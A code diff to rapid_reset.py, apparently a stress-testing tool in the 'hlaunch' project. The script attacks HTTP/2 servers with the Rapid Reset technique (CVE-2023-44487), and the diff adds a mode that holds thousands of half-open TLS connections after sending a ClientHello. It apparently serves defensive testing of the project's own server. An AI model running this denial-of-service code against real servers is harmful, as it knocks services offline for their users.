@@ -3,14 +3,16 @@
 # SPDX-FileCopyrightText: The hlaunch authors
 """An attacker of HTTP/2 servers: opens and resets streams as fast as it can (CVE-2023-44487).
 
-    rapid_reset.py HOST PORT SECONDS clear|NAME|token|greets|greets:NAME
+    rapid_reset.py HOST PORT SECONDS clear|NAME|half:NAME|token|greets|greets:NAME
 
 It connects in clear; or over TLS without a certificate, with NAME as the server name; or as a
 holder of the token in HLAUNCH_TOKEN. With `greets` it connects in clear after the greeting of --tls
 off, as a holder of the token, or as a stranger who has only read NAME on the wire. Reconnects when
-a connection is closed. Prints the numbers of connections made, and of streams opened and reset.
+a connection is closed. With `half:NAME` it sends a ClientHello that it has read, says no more, and
+keeps the connection. Prints the numbers of connections made, and of streams opened and reset.
 """
 
+import contextlib
 import hashlib
 import hmac
 import os
@@ -79,9 +81,9 @@ def server_name(token):
     return derive(token, b"server name", 16).hex() + ".hlaunch"
 
 
-def greet(connection, name, key):
+def greet(connection, name, key, head=b"hlaunch\x01"):
     """Greets as rendezvous/trust/token_greeting.h describes."""
-    hello = b"hlaunch\x01" + name.encode() + os.urandom(16) + b"\0\0"
+    hello = head + name.encode() + os.urandom(16) + b"\0\0"
     connection.sendall(hello)
     answer = connection.recv(8 + 16 + 32, socket.MSG_WAITALL)
     connection.sendall(b"hlaunch\x03" + hmac.digest(key, b"client" + hello + answer, hashlib.sha256))
@@ -91,6 +93,14 @@ def secured_by(name):
     """A function that secures a connection in the way of `name`."""
     if name == "clear":
         return lambda connection: connection
+    if name == "token":
+        asked, context = tls(name)
+        key = derive(os.environ["HLAUNCH_TOKEN"], b"greeting in clear", 32)
+
+        def greeted_tls(connection):
+            greet(connection, asked, key, b"hlaunch\x05")
+            return context.wrap_socket(connection, server_hostname=asked)
+        return greeted_tls
     if not name.startswith("greets"):
         asked, context = tls(name)
         return lambda connection: context.wrap_socket(connection, server_hostname=asked)
@@ -136,8 +146,29 @@ def attack(host, port, secured, until, counts):
             counts["refused"] += 1
 
 
+def client_hello(name):
+    _, context = tls(name)
+    said = ssl.MemoryBIO()
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), said, server_hostname=name).do_handshake()
+    return said.read()
+
+
+def keep_half_open(host, port, name, until):
+    hello, kept = client_hello(name), []
+    while time.monotonic() < until:
+        with contextlib.suppress(OSError):
+            kept.append(socket.create_connection((host, port), timeout=5))
+            kept[-1].sendall(hello)
+        del kept[:-2000]
+        time.sleep(0.002)
+    print({"half-open": len(kept)})
+
+
 def main():
     host, port, seconds, name = sys.argv[1:]
+    if name.startswith("half:"):
+        return keep_half_open(host, int(port), name[5:], time.monotonic() + float(seconds))
     secured = secured_by(name)
     if name in ("token", "greets"):  # Whoever is let in has all the seconds for its attack.
         connect(host, int(port), secured, 60).close()
